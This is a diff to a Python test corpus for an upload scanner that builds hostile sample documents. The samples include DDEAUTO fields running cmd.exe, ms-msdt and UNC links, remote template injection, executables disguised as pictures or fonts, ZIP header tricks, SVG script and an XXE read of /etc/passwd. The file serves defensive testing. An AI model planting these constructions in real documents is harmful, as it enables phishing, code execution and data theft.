@@ -9,6 +9,7 @@ all (a picture as a workbook) refuses it as the wrong type instead: :func:`expec
 from __future__ import annotations
 
 import io
+import struct
 import warnings
 import zipfile
 from collections.abc import Callable, Iterator, Mapping
@@ -22,6 +23,7 @@ from tests.uploads.build import (
     DOCUMENT_RELS,
     DOCX_BODY,
     ODT_TEXT,
+    RawEntry,
     content_xml,
     docx_parts,
     jpeg_bytes,
@@ -34,6 +36,7 @@ from tests.uploads.build import (
     png_bytes,
     png_chunk,
     raw_pdf,
+    raw_zip,
     relationships,
     stream,
     word_xml,
@@ -183,6 +186,16 @@ PDF_LAUNCH: dict[str, dict[str, object]] = {
     "launch-after-goto": {
         "catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (x.exe) >> >>"
     },
+    # An article thread in another file: opened from a share or a web server like GoToR.
+    "open-action-thread-in-remote-file": {
+        "catalog": b"/OpenAction 6 0 R",
+        "extra": [b"<< /S /Thread /F (\\\\\\\\198.51.100.7\\\\s\\\\x.pdf) /D 0 >>"],
+    },
+    "thread-in-remote-file-after-goto": {
+        "catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Thread /F << /FS /URL "
+        b"/F (http://198.51.100.7/x.pdf) >> /D 0 >> >>"
+    },
+    "link-thread-in-remote-file": _annotation(_link(b"<< /S /Thread /F (other.pdf) /D 0 >>")),
 }
 
 PDF_ATTACHMENTS: dict[str, dict[str, object]] = {
@@ -230,6 +243,27 @@ PDF_ACTIONS: dict[str, dict[str, object]] = {
     "field-submit": _field(b"/Bl << /S /SubmitForm /F (https://198.51.100.7/) >>"),
     "open-action-import": {"catalog": b"/OpenAction << /S /ImportData /F (data.fdf) >>"},
     "link-import": _annotation(_link(b"<< /S /ImportData /F (\\\\\\\\198.51.100.7\\\\a.fdf) >>")),
+}
+
+#: Links clicked in a PDF that open a file, a share or a program instead of a web page.
+PDF_UNSAFE_LINKS: dict[str, dict[str, object]] = {
+    name: _annotation(_link(b"<< /S /URI /URI (%s) >>" % uri))
+    for name, uri in (
+        ("file-on-share", b"file://198.51.100.7/share/x.pdf"),
+        ("file-on-drive", b"FILE:///C:/Windows/System32/calc.exe"),
+        ("unc", b"\\\\\\\\198.51.100.7\\\\share\\\\a.exe"),
+        ("drive", b"C:/Windows/System32/calc.exe"),
+        ("smb", b"smb://198.51.100.7/share/a.exe"),
+        ("ms-msdt", b"ms-msdt:/id PCWDiagnostic /skip force"),
+        ("search-ms", b"search-ms:query=x&crumb=location:%5C%5C198.51.100.7%5Cs"),
+        ("javascript", b"javascript:void0"),
+        ("percent-unc", b"%5c%5c198.51.100.7%5cshare%5ca.exe"),
+        ("relative", b"tools/setup.exe"),
+    )
+}
+PDF_UNSAFE_LINKS["relative-to-a-share"] = {
+    **_annotation(_link(b"<< /S /URI /URI (#page=1) >>")),
+    "catalog": b"/URI << /Base (file://198.51.100.7/share/) >>",
 }
 
 PDF_MEDIA: dict[str, dict[str, object]] = {
@@ -378,6 +412,7 @@ def pdf_samples() -> Iterator[Sample]:
     )
     yield from _pdf_family("action", PDF_ACTIONS, Reason.PDF_ACTIONS)
     yield from _pdf_family("media", PDF_MEDIA, Reason.PDF_MEDIA)
+    yield from _pdf_family("link", PDF_UNSAFE_LINKS, Reason.UNSAFE_LINK)
     yield from _pikepdf_samples()
     yield from _pdf_polyglots()
     yield Sample("pdf-100000-objects", "w.pdf", _many_objects(), PDF, Reason.PDF_COMPLEX)
@@ -424,12 +459,11 @@ def _docx(
     return zip_of(parts, compression=compression)
 
 
-def _settings_with_template(target: str) -> dict[str, bytes | str]:
+def _settings_with_template(target: str, mode: str | None = "External") -> dict[str, bytes | str]:
+    rel = ("rIdTpl", "attachedTemplate", target) + ((mode,) if mode is not None else ())
     return {
         "word/settings.xml": word_xml("settings", '<w:attachedTemplate r:id="rIdTpl"/>'),
-        "word/_rels/settings.xml.rels": relationships(
-            ("rIdTpl", "attachedTemplate", target, "External")
-        ),
+        "word/_rels/settings.xml.rels": relationships(rel),  # type: ignore[arg-type]
     }
 
 
@@ -603,14 +637,14 @@ def _word_samples() -> Iterator[Sample]:
         "w.docx",
         _docx(rels=(("rIdUnc", "hyperlink", "\\\\198.51.100.7\\share\\a.exe", "External"),)),
         DOCX,
-        linked,
+        Reason.UNSAFE_LINK,
     )
     yield Sample(
         "docx-hyperlink-to-file",
         "w.docx",
         _docx(rels=(("rIdUnc", "hyperlink", "file:///C:/Windows/System32/calc.exe", "External"),)),
         DOCX,
-        linked,
+        Reason.UNSAFE_LINK,
     )
 
     for name, instruction in FIELDS.items():
@@ -1230,7 +1264,7 @@ def _odt_samples() -> Iterator[Sample]:
             )
         ),
         ODT,
-        linked,
+        Reason.UNSAFE_LINK,
     )
     yield Sample(
         "odt-remote-font",
@@ -1294,6 +1328,476 @@ def _odt_samples() -> Iterator[Sample]:
     yield Sample("odt-then-elf", "w.odt", plain + ELF, ODT, Reason.HIDDEN_DATA)
 
 
+# ZIP headers that disagree, and data hidden in them ---------------------------------------------
+
+
+def _raw_docx(changes: Mapping[str, Mapping[str, object]], **extra: bytes | str) -> bytes:
+    """A plain Word document written by :func:`build.raw_zip`, with entry options (lies,
+    descriptors, extra fields) for the parts named in ``changes``."""
+    parts = docx_parts()
+    parts.update(extra)
+    return raw_zip(
+        RawEntry(name, content, **changes.get(name, {}))  # type: ignore[arg-type]
+        for name, content in parts.items()
+    )
+
+
+def _raw_odt(changes: Mapping[str, Mapping[str, object]]) -> bytes:
+    return raw_zip(
+        RawEntry(name, content, deflate=name != "mimetype", **changes.get(name, {}))  # type: ignore[arg-type]
+        for name, content in odt_parts().items()
+    )
+
+
+STYLES = "word/styles.xml"
+
+
+def _zip_header_samples() -> Iterator[Sample]:
+    damaged = Reason.DAMAGED_DOCX
+    lies: dict[str, Mapping[str, object]] = {
+        # The directory says a picture, the local header (what a streaming reader, an
+        # antivirus or an older Office believes) says a macro project.
+        "name": {"local": {"name": b"word/vbaProject.bin"}},
+        "flags": {"local": {"flags": 0x1}},
+        "method": {"local": {"method": 0}},
+        "crc": {"local": {"crc": 0x12345678}},
+        "packed-size": {"local": {"compress_size": 3}},
+        "size": {"local": {"file_size": 999_999}},
+        "descriptor-crc": {"descriptor": "signed", "descriptor_says": {"crc": 0x12345678}},
+        "descriptor-size": {"descriptor": "bare", "descriptor_says": {"file_size": 7}},
+        "descriptor-and-other-local-sizes": {"descriptor": "signed", "local": {"file_size": 5}},
+    }
+    for name, change in lies.items():
+        target = "word/media/image9.png" if name == "name" else STYLES
+        yield Sample(
+            f"docx-local-header-{name}-differs",
+            "w.docx",
+            _raw_docx({target: change}, **{"word/media/image9.png": VBA}),
+            DOCX,
+            damaged,
+        )
+    yield Sample(
+        "odt-data-descriptor-lies",
+        "w.odt",
+        _raw_odt({"content.xml": {"descriptor": "signed", "descriptor_says": {"crc": 1}}}),
+        ODT,
+        Reason.DAMAGED_ODT,
+    )
+    yield Sample(
+        "odt-local-header-name-differs",
+        "w.odt",
+        _raw_odt({"styles.xml": {"local": {"name": b"Basic/Module.xml"}}}),
+        ODT,
+        Reason.DAMAGED_ODT,
+    )
+    yield Sample(
+        "docx-name-with-nul",
+        "w.docx",
+        _raw_docx({}, **{"word/media/image2.png\x00.exe": png_bytes((3, 3))}),
+        DOCX,
+        damaged,
+    )
+
+    hidden = Reason.HIDDEN_DATA
+    payload = PE + b"\x90" * 300 + PHP
+    unknown = struct.pack("<HH", 0xCAFE, len(payload)) + payload
+    extras: dict[str, Mapping[str, object]] = {
+        "unknown-local-extra": {"local_extra": unknown},
+        "unknown-central-extra": {"central_extra": unknown},
+        "unknown-extra-everywhere-and-comment": {
+            "local_extra": unknown,
+            "central_extra": unknown,
+            "comment": HTML,
+        },
+        "file-comment": {"comment": HTML},
+        "large-timestamp-extra": {
+            "local_extra": struct.pack("<HHB", 0x5455, 121, 3) + PHP + bytes(120 - len(PHP))
+        },
+        "growth-hint-with-payload": {
+            "local_extra": struct.pack("<HHHH", 0xA220, 4 + len(payload), 0xA028, len(payload))
+            + payload
+        },
+        "bytes-after-extra-fields": {"local_extra": b"MZ\x90"},
+        "extra-field-twice": {
+            "local_extra": struct.pack("<HHBI", 0x5455, 5, 1, 0) * 2,
+        },
+    }
+    for name, change in extras.items():
+        yield Sample(f"docx-zip-{name}", "w.docx", _raw_docx({STYLES: change}), DOCX, hidden)
+
+
+# Links that run something when clicked ----------------------------------------------------------
+
+#: Targets of a hyperlink someone clicks that open a program or a file, not a web page.
+UNSAFE_LINKS: dict[str, str] = {
+    "ms-msdt": "ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x",
+    "search-ms": "search-ms:query=invoice&amp;crumb=location:\\\\198.51.100.7\\share",
+    "mhtml": "mhtml:http://198.51.100.7/x.mht!x",
+    "ms-word": "ms-word:ofe|u|https://198.51.100.7/x.docm",
+    "ms-excel": "ms-excel:ofe|u|https://198.51.100.7/x.xlsm",
+    "hcp": "hcp://services/search?query=x",
+    "javascript": "javascript:alert(document.domain)",
+    "libreoffice-command": "vnd.libreoffice.command:.uno:Open?URL=file:///C:/x.exe",
+    "drive-backslash": "C:\\Windows\\System32\\calc.exe",
+    "drive-slash": "c:/windows/system32/calc.exe",
+    "file-upper-case": "FiLe:///c:/windows/system32/calc.exe",
+    "unc-after-no-break-space": "\u00a0\\\\198.51.100.7\\share\\a.exe",
+    "percent-unc": "%5c%5c198.51.100.7%5cshare%5ca.exe",
+    "double-percent-unc": "%255c%255c198.51.100.7%255cshare",
+    "percent-scheme": "https%3A//198.51.100.7/a.exe",
+    "relative-path": "..\\..\\Windows\\System32\\calc.exe",
+    "smb": "smb://198.51.100.7/share/a.exe",
+}
+
+
+def _link_samples() -> Iterator[Sample]:
+    unsafe = Reason.UNSAFE_LINK
+    for name, target in UNSAFE_LINKS.items():
+        yield Sample(
+            f"docx-hyperlink-{name}",
+            "w.docx",
+            _docx(rels=(("rIdBad", "hyperlink", target, "External"),)),
+            DOCX,
+            unsafe,
+        )
+        yield Sample(
+            f"odt-link-{name}",
+            "w.odt",
+            _odt(
+                content=content_xml(
+                    f'{ODT_TEXT}<text:p><text:a xlink:href="{target}">x</text:a></text:p>'
+                )
+            ),
+            ODT,
+            Reason.ODT_MACROS if name == "javascript" else unsafe,  # script, to LibreOffice
+        )
+    yield Sample(
+        "odt-picture-link-to-program",
+        "w.odt",
+        _odt(
+            content=content_xml(
+                ODT_TEXT + '<text:p><draw:a xlink:href="ms-msdt:/id PCWDiagnostic"><draw:frame>'
+                '<draw:image xlink:href="Pictures/picture.png"/></draw:frame></draw:a></text:p>'
+            )
+        ),
+        ODT,
+        unsafe,
+    )
+    made = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
+        '"preserve"> HYPERLINK "</w:instrText></w:r>'
+        + _field_run('QUOTE "file://198.51.100.7/share/a.exe"')[5:-6]
+        + '<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        "</w:p>"
+    )
+    yield Sample(
+        "docx-hyperlink-field-address-from-nested-field",
+        "w.docx",
+        _docx(body=DOCX_BODY + made),
+        DOCX,
+        unsafe,
+    )
+    for name, instruction in (
+        ("drive", 'HYPERLINK "C:\\\\Windows\\\\System32\\\\calc.exe"'),
+        ("share", 'HYPERLINK "file://198.51.100.7/share/a.exe" \\o "Guidance"'),
+        ("program", "HYPERLINK ms-msdt:/id"),
+    ):
+        yield Sample(
+            f"docx-hyperlink-field-to-{name}",
+            "w.docx",
+            _docx(body=DOCX_BODY + _field_run(instruction)),
+            DOCX,
+            unsafe,
+        )
+
+
+# Word: relationships, fields, customUI, parts by their bytes -------------------------------------
+
+
+def _word_review_samples() -> Iterator[Sample]:
+    linked = Reason.LINKED
+    remote = "https://198.51.100.7/templates/report.dotm"
+    for name, mode in (
+        ("leading-space", " External"),
+        ("trailing-space", "External "),
+        ("tab", "&#9;External"),
+        ("upper-case", "EXTERNAL"),
+        ("other-word", "Remote"),
+    ):
+        yield Sample(
+            f"docx-remote-template-mode-{name}",
+            "w.docx",
+            _docx(extra=_settings_with_template(remote, mode)),
+            DOCX,
+            linked,
+        )
+    for name, target in (
+        ("http", remote),
+        ("unc", "\\\\198.51.100.7\\share\\report.dotm"),
+        ("double-slash", "//198.51.100.7/share/report.dotm"),
+        ("percent-unc", "%5C%5C198.51.100.7%5Cshare%5Creport.dotm"),
+        ("file", "file://198.51.100.7/share/report.dotm"),
+    ):
+        yield Sample(
+            f"docx-internal-template-{name}",
+            "w.docx",
+            _docx(extra=_settings_with_template(target, None)),
+            DOCX,
+            linked,
+        )
+    yield Sample(
+        "docx-internal-picture-on-share",
+        "w.docx",
+        _docx(
+            rels=(("rIdRemote", "image", "\\\\198.51.100.7\\share\\logo.png"),),
+            body=DOCX_BODY.replace('r:embed="rIdImg"', 'r:embed="rIdRemote"'),
+        ),
+        DOCX,
+        linked,
+    )
+
+    fields = Reason.FIELDS
+    quoted = '"DDEAUTO" c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'.replace('"', "&quot;")
+    yield Sample(
+        "docx-field-quoted-name",
+        "w.docx",
+        _docx(body=DOCX_BODY + f'<w:p><w:fldSimple w:instr=" {quoted} "/></w:p>'),
+        DOCX,
+        fields,
+    )
+    for name, instruction in (
+        ("curly-quoted-name", "\u201cDDEAUTO\u201d c:\\\\windows\\\\system32\\\\cmd.exe"),
+        ("name-after-backslash", "\\DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
+        ("name-after-other-words", 'QUOTE "x" INCLUDETEXT "\\\\\\\\198.51.100.7\\\\a.docx"'),
+    ):
+        yield Sample(
+            f"docx-field-{name}",
+            "w.docx",
+            _docx(body=DOCX_BODY + _field_run(instruction)),
+            DOCX,
+            fields,
+        )
+
+    def nested(before: str, inner: str, after: str) -> str:
+        """An outer field whose instruction is ``before`` {inner field} ``after``."""
+        return (
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            f'<w:r><w:instrText xml:space="preserve">{before}</w:instrText></w:r>'
+            + _field_run(inner)[5:-6]
+            + f'<w:r><w:instrText xml:space="preserve">{after}</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        )
+
+    command = ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
+    for name, body in (
+        # QUOTE with character codes spells DDEAUTO: the outer field's name is the result.
+        ("name-from-nested-field", nested("", "QUOTE 68 68 69 65 85 84 79", command)),
+        ("name-from-nested-field-after-space", nested("  ", "QUOTE 68 68 69 65 85 84 79", command)),
+        ("name-from-nested-quote", nested("", 'QUOTE "DDEAUTO"', command)),
+        ("name-glued-to-nested-field", nested(" DD", "QUOTE 69 65", "UTO" + command)),
+    ):
+        yield Sample(f"docx-field-{name}", "w.docx", _docx(body=DOCX_BODY + body), DOCX, fields)
+    deleted = (
+        '<w:p><w:del w:id="1" w:author="Rhys Example" w:date="2026-03-27T09:30:00Z"><w:r>'
+        '<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText xml:space="preserve"> '
+        f'{DDE} </w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        "</w:del></w:p>"
+    )
+    yield Sample(
+        "docx-field-in-deleted-text", "w.docx", _docx(body=DOCX_BODY + deleted), DOCX, fields
+    )
+
+    macro = Reason.DOCX_MACROS
+    ribbon = (
+        '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Go">'
+        "<ribbon/></customUI>"
+    )
+    root_with_ribbon = relationships(
+        ("rId1", "officeDocument", "word/document.xml"),
+        (
+            "rId9",
+            "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
+            "word/ribbon.xml",
+        ),
+    )
+    yield Sample(
+        "docx-custom-ui-under-another-name",
+        "w.docx",
+        _docx(extra={"_rels/.rels": root_with_ribbon, "word/ribbon.xml": ribbon}),
+        DOCX,
+        macro,
+    )
+    for name, kind in (
+        ("2007", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"),
+        (
+            "user-customization",
+            "http://schemas.microsoft.com/office/2006/relationships/ui/userCustomization",
+        ),
+    ):
+        yield Sample(
+            f"docx-custom-ui-relationship-{name}",
+            "w.docx",
+            _docx(rels=(("rIdUi", kind, "ribbon.xml"),)),
+            DOCX,
+            macro,
+        )
+    yield Sample(
+        "docx-custom-ui-part-only",
+        "w.docx",
+        _docx(
+            extra={
+                "word/glossary/extra.xml": ribbon.replace("2006/01/customui", "2009/07/customui")
+            }
+        ),
+        DOCX,
+        macro,
+    )
+
+    embedded = Reason.EMBEDDED
+    parts: dict[str, tuple[str, bytes | str]] = {
+        "ole-as-picture": ("word/media/image9.png", VBA),
+        "exe-as-metafile": ("word/media/image2.emf", PE),
+        "elf-as-picture": ("word/media/image3.jpeg", ELF),
+        "web-page-as-picture": ("word/media/image4.gif", HTML),
+        "nothing-as-picture": ("word/media/image5.png", b""),
+        "exe-as-printer-settings": ("word/printerSettings/printerSettings1.bin", PE),
+        "exe-as-font": ("word/fonts/font1.ttf", PE),
+        "junk-as-font": ("word/fonts/font2.otf", JUNK),
+        "undeclared-scrambled-font": ("word/fonts/font3.odttf", build.TTF),
+        "exe-as-signature": ("_xmlsignatures/origin.sigs", PE),
+        "exe-as-xml": ("customXml/item9.xml", PE),
+        "ole-as-xml": ("word/glossary/document.xml", VBA),
+        "svg-with-script": ("word/media/image6.svg", build.svg("<script>alert(1)</script>")),
+        "svg-event-handler": (
+            "word/media/image6.svg",
+            build.svg('<rect width="1" height="1"/>', attributes='onload="alert(1)"'),
+        ),
+        "svg-foreign-object": (
+            "word/media/image6.svg",
+            build.svg(
+                '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'
+            ),
+        ),
+        "svg-that-is-a-web-page": ("word/media/image6.svg", HTML),
+    }
+    for name, (part, content) in parts.items():
+        yield Sample(f"docx-{name}", "w.docx", _docx(extra={part: content}), DOCX, embedded)
+    yield Sample(
+        "docx-svg-remote-picture",
+        "w.docx",
+        _docx(
+            extra={
+                "word/media/image6.svg": build.svg(
+                    '<image xlink:href="https://198.51.100.7/pixel.png" width="1" height="1"/>'
+                )
+            }
+        ),
+        DOCX,
+        linked,
+    )
+    yield Sample(
+        "docx-svg-remote-style-sheet",
+        "w.docx",
+        _docx(
+            extra={
+                "word/media/image6.svg": '<?xml version="1.0"?><?xml-stylesheet href="https://'
+                '198.51.100.7/s.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'
+            }
+        ),
+        DOCX,
+        linked,
+    )
+    yield Sample(
+        "docx-svg-link-to-program",
+        "w.docx",
+        _docx(extra={"word/media/image6.svg": build.svg('<a href="ms-msdt:/id x"><rect/></a>')}),
+        DOCX,
+        Reason.UNSAFE_LINK,
+    )
+    yield Sample(
+        "docx-svg-entity",
+        "w.docx",
+        _docx(
+            extra={
+                "word/media/image6.svg": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM '
+                '"file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text>'
+                "</svg>"
+            }
+        ),
+        DOCX,
+        Reason.DAMAGED_DOCX,
+    )
+
+
+# OpenDocument: macros at any depth, parts by their bytes -----------------------------------------
+
+LIBRARIES = (
+    '<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org'
+    '/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name='
+    '"Standard" library:link="false"/></library:libraries>'
+)
+DIALOG = (
+    '<?xml version="1.0" encoding="UTF-8"?><dlg:window xmlns:dlg="http://openoffice.org/2000/'
+    'dialog" xmlns:script="http://openoffice.org/2000/script" dlg:id="Dialog1"><dlg:bulletinboard>'
+    '<dlg:button dlg:id="b"><script:event script:event-name="on-performaction" script:macro-name='
+    '"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" '
+    'script:language="Script"/></dlg:button></dlg:bulletinboard></dlg:window>'
+)
+
+
+def _odt_review_samples() -> Iterator[Sample]:
+    macros = Reason.ODT_MACROS
+    module = BASIC["Basic/Standard/Module1.xml"]
+    object_parts = {
+        "Object 1/content.xml": odf_xml("document-content", ""),
+        "Object 1/styles.xml": odf_xml("document-styles", "<office:styles/>"),
+    }
+    for name, extra in (
+        (
+            "basic-inside-an-object",
+            {
+                **object_parts,
+                "Object 1/Basic/Standard/Module1.xml": module,
+                "Object 1/Basic/script-lc.xml": LIBRARIES,
+            },
+        ),
+        ("basic-in-configurations", {"Configurations2/basic/Module1.xml": module}),
+        ("scripts-inside-an-object", {**object_parts, "Object 1/Scripts/python/run.py": b"x"}),
+        ("dialogs-inside-an-object", {**object_parts, "Object 1/Dialogs/Standard/D.xml": DIALOG}),
+        ("script-library-list-elsewhere", {"Configurations2/script-lc.xml": LIBRARIES}),
+        ("dialog-library-list-elsewhere", {**object_parts, "Object 1/dialog-lc.xml": LIBRARIES}),
+        ("basic-module-under-another-name", {"Configurations2/module.xml": module}),
+        ("dialog-under-another-name", {**object_parts, "Object 1/settings.xml": DIALOG}),
+    ):
+        yield Sample(f"odt-{name}", "w.odt", _odt(extra=extra), ODT, macros)
+    yield Sample(
+        "odt-execute-macro",
+        "w.odt",
+        _odt(
+            content=content_xml(
+                ODT_TEXT + '<text:p><text:execute-macro text:name="Main">Run</text:execute-macro>'
+                "</text:p>"
+            )
+        ),
+        ODT,
+        macros,
+    )
+
+    embedded = Reason.EMBEDDED
+    for name, part, content in (
+        ("exe-as-chart-replacement", "ObjectReplacements/Object 1", PE),
+        ("ole-as-chart-replacement", "ObjectReplacements/Object 2", VBA),
+        ("junk-as-chart-replacement", "ObjectReplacements/Object 3", JUNK),
+        ("ole-as-picture", "Pictures/10000000000000.png", VBA),
+        ("elf-as-thumbnail", "Thumbnails/thumbnail.png", ELF),
+        ("exe-as-font", "Fonts/Gentium.ttf", PE),
+        ("exe-as-layout-cache", "layout-cache", PE),
+        ("exe-as-xml", "Object 1/content.xml", PE),
+        ("svg-with-script", "Pictures/drawing.svg", build.svg("<script>alert(1)</script>")),
+    ):
+        yield Sample(f"odt-{name}", "w.odt", _odt(extra={part: content}), ODT, embedded)
+
+
 # Pictures ------------------------------------------------------------------------------------
 
 
@@ -1333,6 +1837,24 @@ def _picture_samples() -> list[Sample]:
                 )
             )
     samples.append(Sample("png-then-png", "c.png", png + png, PNG, trailer))
+    samples.append(
+        Sample(
+            "png-end-chunk-with-payload",
+            "c.png",
+            png[:-12] + png_chunk(b"IEND", PHP + HTML),
+            PNG,
+            trailer,
+        )
+    )
+    samples.append(
+        Sample(
+            "png-end-chunk-with-one-byte",
+            "c.png",
+            png[:-12] + png_chunk(b"IEND", b"\x00"),
+            PNG,
+            trailer,
+        )
+    )
     samples.append(Sample("png-then-one-byte", "c.png", png + b"\x00", PNG, trailer))
     samples.append(Sample("jpeg-then-one-byte", "c.jpg", jpeg_bytes() + b"\x00", JPEG, trailer))
     samples.append(
@@ -1447,6 +1969,10 @@ def hostile() -> tuple[Sample, ...]:
         *_bombs(),
         *_odt_samples(),
         *_picture_samples(),
+        *_zip_header_samples(),
+        *_link_samples(),
+        *_word_review_samples(),
+        *_odt_review_samples(),
     )
     ids = [sample.id for sample in samples]
     assert len(ids) == len(set(ids)), "corpus ids must be unique"
@@ -1519,7 +2045,7 @@ def valid() -> tuple[Sample, ...]:
             DOCX,
         ),
         Sample(
-            "odt-embedded-font", "workbook.odt", _odt(extra={"Fonts/Gentium.ttf": b"\x00\x01"}), ODT
+            "odt-embedded-font", "workbook.odt", _odt(extra={"Fonts/Gentium.ttf": build.TTF}), ODT
         ),
         Sample(
             "docx-printer-settings",
@@ -1551,6 +2077,19 @@ def valid() -> tuple[Sample, ...]:
             ),
             ODT,
         ),
+        *_valid_packages(),
+        Sample(
+            "pdf-link-click-mailto",
+            "workbook.pdf",
+            _pdf(_annotation(_link(b"<< /S /URI /URI (mailto:assessor@example.org) >>"))),
+            PDF,
+        ),
+        Sample(
+            "pdf-thread-in-the-document",
+            "workbook.pdf",
+            _pdf(_annotation(_link(b"<< /S /Thread /D 0 >>"))),
+            PDF,
+        ),
         Sample("png", "certificate.png", png_bytes(), PNG),
         Sample("png-palette", "certificate.png", png_bytes(mode="P"), PNG),
         Sample("png-alpha", "certificate.png", png_bytes(mode="RGBA"), PNG),
@@ -1560,6 +2099,121 @@ def valid() -> tuple[Sample, ...]:
         Sample("jpeg-multi-picture", "camera.jpg", build.mpo_bytes(), JPEG),
     ]
     return tuple(samples)
+
+
+def _valid_packages() -> Iterator[Sample]:
+    """Word and OpenDocument files as their writers lay them out, with every kind of picture,
+    font and link a plain document has."""
+    yield Sample("docx-as-word-writes-it", "Workbook.docx", build.word_docx(), DOCX)
+    yield Sample(
+        "docx-streamed-with-data-descriptors",
+        "workbook.docx",
+        build.streamed_zip(docx_parts(), stored=()),
+        DOCX,
+    )
+    yield Sample("docx-zipped-again-by-info-zip", "workbook.docx", build.info_zip_docx(), DOCX)
+    yield Sample("odt-as-libreoffice-writes-it", "Llyfr gwaith.odt", build.libreoffice_odt(), ODT)
+    yield Sample(
+        "odt-streamed-with-data-descriptors", "workbook.odt", build.streamed_zip(odt_parts()), ODT
+    )
+    links = (
+        '<w:p><w:hyperlink w:anchor="plan"><w:r><w:t>Plan</w:t></w:r></w:hyperlink>'
+        '<w:hyperlink r:id="rIdMail"><w:r><w:t>Assessor</w:t></w:r></w:hyperlink></w:p>'
+        + _field_run('HYPERLINK \\l "plan" \\o "The plan"')
+        + _field_run('HYPERLINK "mailto:assessor@example.org"')
+        + _field_run("HYPERLINK https://socialcare.wales/resources/link-and-import-guidance")
+        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText>'
+        "</w:r>"
+        + _field_run("MERGEFIELD Name")[5:-6]
+        + '<w:r><w:instrText> = "Siân" "Yes" "No" </w:instrText></w:r><w:r><w:fldChar '
+        'w:fldCharType="end"/></w:r></w:p>'
+    )
+    yield Sample(
+        "docx-mail-bookmark-and-web-links",
+        "workbook.docx",
+        _docx(
+            body=DOCX_BODY + links,
+            rels=(
+                ("rIdMail", "hyperlink", "mailto:assessor@example.org", "External"),
+                ("rIdHttp", "hyperlink", "HTTP://www.gov.wales/?a=1%202", "External"),
+                ("rIdHash", "hyperlink", "#_Toc1", "External"),
+                (
+                    "rIdBody",
+                    "hyperlink",
+                    "mailto:assessor@example.org?subject=Workbook&amp;body=Hello%0D%0AThanks",
+                    "External",
+                ),
+            ),
+        ),
+        DOCX,
+    )
+    yield Sample(
+        "odt-mail-bookmark-and-web-links",
+        "workbook.odt",
+        _odt(
+            content=content_xml(
+                ODT_TEXT + '<text:p><text:a xlink:href="mailto:assessor@example.org">Assessor'
+                '</text:a> <text:a xlink:href="#Plan|outline">Plan</text:a> <draw:a xlink:href='
+                '"https://www.gov.wales/"><draw:frame><draw:image xlink:href="Pictures/picture.png"'
+                "/></draw:frame></draw:a></text:p>"
+            )
+        ),
+        ODT,
+    )
+    pictures: dict[str, bytes | str] = {
+        "word/media/image2.jpeg": jpeg_bytes(),
+        "word/media/image3.gif": build.picture_bytes("GIF"),
+        "word/media/image4.bmp": build.picture_bytes("BMP"),
+        "word/media/image5.tiff": build.picture_bytes("TIFF"),
+        "word/media/image6.emf": build.EMF,
+        "word/media/image7.wmf": build.WMF_PLACEABLE,
+        "word/media/image8.wmf": build.WMF,
+        "word/media/image9.svg": build.SVG,
+        "word/media/image10.svg": build.SVG_WITH_DOCTYPE,
+        "word/media/image11.png": jpeg_bytes(),  # Word keeps a picture's bytes as pasted
+        "word/fonts/font1.odttf": bytes(range(32)) + build.TTF,
+        "word/fonts/font2.ttf": build.TTF,
+    }
+    types = "".join(
+        f'<Default Extension="{extension}" ContentType="{kind}"/>'
+        for extension, kind in (
+            ("jpeg", "image/jpeg"),
+            ("gif", "image/gif"),
+            ("bmp", "image/bmp"),
+            ("tiff", "image/tiff"),
+            ("emf", "image/x-emf"),
+            ("wmf", "image/x-wmf"),
+            ("svg", "image/svg+xml"),
+            ("odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont"),
+            ("ttf", "application/x-font-ttf"),
+        )
+    )
+    yield Sample(
+        "docx-pictures-and-fonts-of-every-kind",
+        "workbook.docx",
+        _docx(extra=pictures, types=types),
+        DOCX,
+    )
+    yield Sample(
+        "odt-pictures-of-every-kind",
+        "workbook.odt",
+        _odt(
+            extra={
+                "Pictures/drawing.svg": build.SVG,
+                "Pictures/chart.svm": build.SVM,
+                "Pictures/diagram.emf": build.EMF,
+                "Pictures/clip.wmf": build.WMF_PLACEABLE,
+                "Pictures/photo.jpg": jpeg_bytes(),
+                "Pictures/anim.gif": build.picture_bytes("GIF"),
+                "Object 1/content.xml": odf_xml("document-content", ""),
+                "ObjectReplacements/Object 1": build.EMF,
+                "ObjectReplacements/Object 2": build.WMF,
+                "ObjectReplacements/Object 3": png_bytes((3, 3)),
+                "Fonts/Gentium-Bold.otf": b"OTTO" + bytes(8),
+            }
+        ),
+        ODT,
+    )
 
 
 def _wrong_xref(pdf: bytes) -> bytes:
